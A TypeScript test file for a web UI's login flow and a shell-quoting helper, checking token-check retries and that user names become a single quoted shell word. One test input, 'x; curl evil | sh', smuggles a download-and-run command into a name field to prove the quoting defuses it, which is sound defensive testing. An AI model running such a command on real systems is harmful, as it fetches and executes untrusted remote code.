// SPDX-FileCopyrightText: The Watchkeeper Authors
// SPDX-License-Identifier: Apache-2.0

import assert from 'node:assert/strict';
import { test } from 'node:test';

Object.assign(globalThis, { location: { search: '', href: 'http://x/ui/' }, matchMedia: () => ({ matches: false, addEventListener() {} }) });
const { asked, login, loggedIn, watchLogin } = await import('../src/app/login');
const { status } = await import('../src/app/state');
const { bearer } = await import('../src/app/token');
const { word } = await import('../src/shell/nobody');

/** Answers requests with the codes in turn, the last one again and again. The result counts them. */
function answering(...codes: number[]): { requests: number } {
  const count = { requests: 0 };
  const message = (code: number): string => JSON.stringify({ kind: 'Status', message: `code ${code}` });
  globalThis.fetch = async () => {
    const code = codes[Math.min(count.requests++, codes.length - 1)];
    return new Response(message(code), { status: code });
  };
  return count;
}

test('a token that could not be checked is neither refused nor used', async () => {
  for (const code of [429, 500, 503]) {
    answering(code);
    assert.equal(await login('a-token'), `The token could not be checked (code ${code}). Try again.`);
    assert.deepEqual([bearer(), loggedIn.value], ['', false], `${code}`);
  }
  answering(401);
  assert.match(await login('a-token'), /does not accept this token/);
  assert.equal(bearer(), '');
});

test('the login is not asked for before the credentials are checked', async (t) => {
  t.mock.timers.enable({ apis: ['setTimeout'] });
  const count = answering(429, 503, 401);
  watchLogin();
  status.value = { phase: 'denied', text: '', since: 0, code: 401 };
  const seen = [];
  for (let i = 0; i < 3; i++) {
    t.mock.timers.tick(5000);
    for (let turn = 0; turn < 20; turn++) await Promise.resolve();
    await new Promise((resolve) => setImmediate(resolve));
    seen.push([count.requests, asked.value]);
  }
  assert.deepEqual(seen, [[1, ''], [2, ''], [3, 'needed']]);
});

test('the name of a user in a command is one word', () => {
  for (const plain of ['jane', 'oidc:jane@example.com', 'system:node:node-0', 'a/b+c']) assert.equal(word(plain), plain);
  assert.equal(word('x; curl evil | sh'), "'x; curl evil | sh'");
  assert.equal(word("it's $(x)"), "'it'\\''s $(x)'");
});
